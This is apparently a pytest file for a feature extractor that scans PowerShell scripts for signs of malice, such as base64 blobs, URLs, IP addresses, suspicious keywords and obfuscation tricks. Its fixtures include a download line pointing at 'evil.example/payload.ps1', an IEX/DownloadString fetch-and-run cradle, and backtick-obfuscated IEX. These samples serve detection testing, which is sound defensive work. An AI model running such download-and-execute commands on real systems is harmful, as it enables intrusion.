"""
goal: lexical feature extraction over small, hand-checked scripts.
"""

from __future__ import annotations

from conftest import b64

from shared.math_utils import shannon_entropy

from lexis.analyzers.features import FeatureExtractor
from lexis.core.tables import DEFAULT_TABLES


def test_empty_text_yields_default_features():
    f = FeatureExtractor().extract("")
    assert f.total_length == 0
    assert f.line_count == 1
    assert f.average_line_length == 0.0
    assert f.entropy == 0.0
    assert f.base64_count == 0
    assert f.suspicious_keyword_count == 0
    assert f.url_count == 0
    assert f.ip_count == 0
    assert f.comment_ratio == 0.0
    assert f.variable_obfuscation_score == 0.0
    assert f.nested_block_depth == 0
    assert f.obfuscation_score == 0


def test_ip_octets_are_bounded_and_duplicates_kept():
    text = "connect 10.0.0.1 then 999.1.1.1 then 256.0.0.1 then 10.0.0.1"
    f = FeatureExtractor().extract(text)
    assert f.ip_addresses == ("10.0.0.1", "10.0.0.1")
    assert f.ip_count == 2


def test_urls_stop_at_quotes():
    f = FeatureExtractor().extract('Invoke-WebRequest "https://evil.example/payload.ps1" -OutFile x')
    assert f.urls_found == ("https://evil.example/payload.ps1",)


def test_base64_candidate_accepted_when_it_decodes_to_text():
    payload = b64("Write-Host hello world")
    f = FeatureExtractor().extract(f'$p = "{payload}"')
    assert f.base64_strings == (payload,)
    assert f.base64_count == 1


def test_base64_candidates_rejected():
    extractor = FeatureExtractor()
    # length 1 mod 4 cannot be decoded
    assert extractor.detect_base64_strings("A" * 21) == []
    # decodes to zero bytes only, no ASCII letter
    assert extractor.detect_base64_strings("A" * 24) == []
    # too short to be a candidate
    assert extractor.detect_base64_strings(b64("hi")) == []


def test_keywords_reported_once_in_table_order():
    text = "IEX (New-Object Net.WebClient).DownloadString('http://x'); iex again"
    f = FeatureExtractor().extract(text)
    assert {"iex", "downloadstring", "webclient", "net.webclient", "new-object"} <= set(f.suspicious_keywords)
    order = [DEFAULT_TABLES.suspicious_keywords.index(k) for k in f.suspicious_keywords]
    assert order == sorted(order)
    assert len(f.suspicious_keywords) == len(set(f.suspicious_keywords))


def test_counts_equal_list_lengths():
    text = "Invoke-WebRequest http://a.example 1.2.3.4 run.exe FromBase64String"
    f = FeatureExtractor().extract(text)
    assert f.url_count == len(f.urls_found)
    assert f.ip_count == len(f.ip_addresses)
    assert f.file_extension_count == len(f.file_extensions)
    assert f.powershell_command_count == len(f.powershell_commands)
    assert f.encoding_method_count == len(f.encoding_methods)
    assert "invoke-webrequest" in f.powershell_commands
    assert "frombase64string" in f.encoding_methods


def test_file_extensions_lowercased_and_unique():
    f = FeatureExtractor().extract("copy evil.EXE to run.ps1 and notes.txt; again a.exe")
    assert f.file_extensions == (".exe", ".ps1")


def test_string_obfuscation_techniques():
    extractor = FeatureExtractor()
    assert extractor.string_obfuscation_techniques("$a = 'Inv' + 'oke'") == ["String Concatenation"]
    assert "Backtick Obfuscation" in extractor.string_obfuscation_techniques("I`E`X $x")
    assert "Character Array Conversion" in extractor.string_obfuscation_techniques("[char[]]$s")
    assert "Variable Substitution" in extractor.string_obfuscation_techniques("${env:temp}")
    assert "Format String Obfuscation" in extractor.string_obfuscation_techniques('"{0}{1}" -f @("a","b")')
    assert extractor.string_obfuscation_techniques("Get-Date") == []


def test_variable_obfuscation_score():
    extractor = FeatureExtractor()
    assert extractor.variable_obfuscation_score("$a1234 = 1; $normalName = 2; $a1234") == 50.0
    assert extractor.variable_obfuscation_score("no variables here") == 0.0


def test_structural_metrics():
    extractor = FeatureExtractor()
    assert extractor.max_string_length('$x = "hello"; $y = \'hi\'') == 5
    assert extractor.max_string_length("nothing quoted") == 0
    assert extractor.comment_ratio("# c\ncode\n  # c2\ncode".split("\n")) == 50.0
    assert extractor.nested_block_depth("{ { } } } {") == 2

    f = extractor.extract("function Get-Foo {\n}\nfunction bar{ }")
    assert f.function_count == 2


def test_average_line_length():
    f = FeatureExtractor().extract("ab\ncd")
    assert f.line_count == 2
    assert f.average_line_length == 2.5


def test_entropy_is_measured_over_utf8_bytes():
    wide = "".join(chr(0x4E00 + i) for i in range(1000))
    f = FeatureExtractor().extract(wide)
    assert 0.0 < f.entropy <= 8.0

    ascii_text = "Write-Host 'hello'"
    assert FeatureExtractor().extract(ascii_text).entropy == shannon_entropy(ascii_text)


def test_reference_inputs():
    extractor = FeatureExtractor()
    encoded = "SGVsbG8gV29ybGQgVGhpcyBJcyBBIFRlc3Q="
    assert extractor.detect_base64_strings(encoded) == [encoded]
    assert extractor.detect_base64_strings("1234567890123456789012345") == []
    assert extractor.extract("999.1.1.1 192.168.1.1").ip_addresses == ("192.168.1.1",)
